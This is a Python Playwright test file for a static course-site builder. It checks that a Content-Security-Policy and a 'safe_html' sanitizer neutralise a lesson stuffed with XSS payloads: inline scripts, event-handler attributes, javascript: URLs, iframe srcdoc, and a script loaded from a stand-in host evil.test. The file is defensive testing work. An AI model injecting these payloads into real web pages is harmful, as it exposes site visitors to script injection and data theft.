"""A contributed unit full of script payloads, in real Chromium, from a plain-http school server
and from disk: built as it is, the Content-Security-Policy alone stops every inline script, event
attribute, ``javascript:`` URL and script from another host; built with ``safe_html: true`` the
payloads are gone from the page and the harmless HTML (details, kbd, tables, figures, sub/sup)
is still there. Each payload would raise a dialog and add its name to ``window.PWNED``."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from masterysite.build import build
from tests.browser.conftest import serve_folder

pytestmark = pytest.mark.browser


def run(name: str) -> str:
    return f"window.PWNED=(window.PWNED||[]).concat('{name}');alert('{name}')"


HARMLESS = """
<details><summary>Open the hint</summary>Press <kbd>Ctrl</kbd>+<kbd>C</kbd>: H<sub>2</sub>O and x<sup>2</sup>.</details>

<table class="facts"><tr><th>Fraction</th><th>Decimal</th></tr><tr><td>1/2</td><td>0.5</td></tr></table>

<figure><img src="../assets/dot.svg" alt="A red dot"><figcaption>One red dot</figcaption></figure>

<p style="color: rgb(0, 128, 0)" id="green">Green text, styled inline.</p>
"""

PAYLOADS = f"""
<script>{run("script")}</script>

<img src="data:," alt="" onerror="{run("img-onerror")}">

<svg onload="{run("svg-onload")}"><circle r="4"></circle></svg>

<p><a id="js-link" href="javascript:{run("javascript-url")}">A link to a script URL</a></p>

<iframe srcdoc="<script>parent.PWNED=(parent.PWNED||[]).concat('srcdoc');parent.alert('srcdoc')</script>"></iframe>

<div id="hover-me" onmouseover="{run("onmouseover")}">Hover me</div>

<details open ontoggle="{run("ontoggle")}"><summary>Toggled</summary>x</details>

<input id="focus-me" autofocus onfocus="{run("onfocus")}">

<math><mrow href="javascript:{run("mathml-href")}"><mi id="math-link">m</mi></mrow></math>

<script src="http://evil.test/steal.js"></script>

<img src="http://evil.test/pixel.png" alt="">

<object data="javascript:{run("object")}"></object>

<form action="javascript:{run("form-action")}"><button id="js-form">Send</button></form>
"""

UNIT = f"""---
title: Payloads
requires: []
objectives:
  add: Add two numbers
---

A lesson with raw HTML in it.
{HARMLESS}
{PAYLOADS}

::: question add
What is 2 + 2?

= 4
:::
"""

DOT = "<svg xmlns='http://www.w3.org/2000/svg' width='20' height='20'><circle cx='10' cy='10' r='8' fill='red'/></svg>"


def make_site(root: Path, safe: bool) -> Path:
    course = root / "course"
    (course / "units").mkdir(parents=True)
    (course / "assets").mkdir()
    (course / "assets" / "dot.svg").write_text(DOT, encoding="utf-8")
    settings = "safe_html: true\n" if safe else ""
    (course / "course.yml").write_text(f"title: Payloads\nid: payloads\n{settings}", encoding="utf-8")
    (course / "units" / "payloads.md").write_text(UNIT, encoding="utf-8")
    site = root / "www" / "course"
    build(course, site)
    shutil.rmtree(course)
    return site


@pytest.fixture(scope="module", params=["as-written", "safe_html"])
def built(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> tuple[str, Path]:
    safe = request.param == "safe_html"
    return request.param, make_site(tmp_path_factory.mktemp(request.param), safe)


@pytest.fixture(params=["http", "file"])
def unit_url(request: pytest.FixtureRequest, built: tuple[str, Path]) -> Iterator[str]:
    _, site = built
    if request.param == "file":
        yield (site / "units" / "payloads.html").as_uri()
        return
    with serve_folder(site.parent) as root:
        yield f"{root}course/units/payloads.html"


def open_page(browser: Browser, url: str) -> tuple[Page, list[str], list[str], list[str]]:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    dialogs: list[str] = []
    console: list[str] = []
    requests: list[str] = []

    def dialog(d: object) -> None:
        dialogs.append(d.message)  # type: ignore[attr-defined]
        d.dismiss()  # type: ignore[attr-defined]

    page.on("dialog", dialog)
    page.on("console", lambda m: console.append(f"{m.type}: {m.text}") if m.type in ("error", "warning") else None)
    page.on("pageerror", lambda exc: console.append(f"pageerror: {exc}"))
    # Chromium reports a request the policy refused as one that failed ("csp"): it never left the browser
    page.on("request", lambda r: requests.append(r.url))
    refused = ("csp", "net::ERR_BLOCKED_BY_CSP")
    page.on("requestfailed", lambda r: requests.remove(r.url) if r.failure in refused else None)
    page.goto(url)
    page.wait_for_function("() => window.MASTERYSITE_STARTED === true")
    return page, dialogs, console, requests


def poke(page: Page) -> None:
    """What a curious student does: click the links and buttons, hover, open and close things."""
    for selector in ("#js-link", "#math-link", "form[action] #js-form"):
        if page.locator(selector).count():
            page.locator(selector).first.click(force=True, no_wait_after=True)
    if page.locator("#hover-me").count():
        page.locator("#hover-me").hover()
    page.wait_for_timeout(300)


def csp_refusal(line: str) -> bool:
    return "Content Security Policy" in line


def test_no_payload_runs(browser: Browser, built: tuple[str, Path], unit_url: str) -> None:
    kind, _ = built
    page, dialogs, console, requests = open_page(browser, unit_url)
    try:
        poke(page)
        assert dialogs == []
        assert page.evaluate("window.PWNED || []") == []
        assert [r for r in requests if "evil.test" in r] == []  # nothing asked of another host
        assert page.evaluate("document.documentElement.className").split().count("ms-broken") == 0
        expect(page.locator(".quiz fieldset").first).to_be_visible()  # the site's own scripts (and its JSON) ran
        refused = [line for line in console if csp_refusal(line)]
        others = [line for line in console if not csp_refusal(line)]
        if kind == "safe_html":
            assert refused == [], "the sanitizer left something for the policy to refuse"
        else:
            assert refused, "the payloads were not even tried"
        assert others == []
    finally:
        page.context.close()


def test_harmless_html_is_kept(browser: Browser, built: tuple[str, Path], unit_url: str) -> None:
    page, dialogs, _, _ = open_page(browser, unit_url)
    try:
        lesson = page.locator(".lesson")
        lesson.get_by_text("Open the hint").click()
        expect(lesson.locator("details kbd").first).to_have_text("Ctrl")
        expect(lesson.locator("details sub")).to_have_text("2")
        expect(lesson.locator("details sup")).to_have_text("2")
        expect(lesson.locator("table.facts td").first).to_have_text("1/2")
        expect(lesson.locator("figure figcaption")).to_have_text("One red dot")
        assert lesson.locator("figure img").evaluate("img => img.complete && img.naturalWidth") == 20
        expect(lesson.locator("#green")).to_have_css("color", "rgb(0, 128, 0)")
        assert dialogs == []
    finally:
        page.context.close()


def test_safe_html_removes_the_payloads_from_the_page(tmp_path: Path) -> None:
    site = make_site(tmp_path, safe=True)
    page = (site / "units" / "payloads.html").read_text(encoding="utf-8")
    lesson = page[page.index('<div class="lesson') : page.index("</main>")]
    for needle in ("onerror", "onload", "onmouseover", "ontoggle", "onfocus", "javascript:", "srcdoc", "<iframe"):
        assert needle not in lesson, needle
    assert "<script" not in lesson.replace('<script type="application/json" id="ms-unit-data">', "")
    assert "evil.test" not in lesson and "<svg" not in lesson and "<object" not in lesson
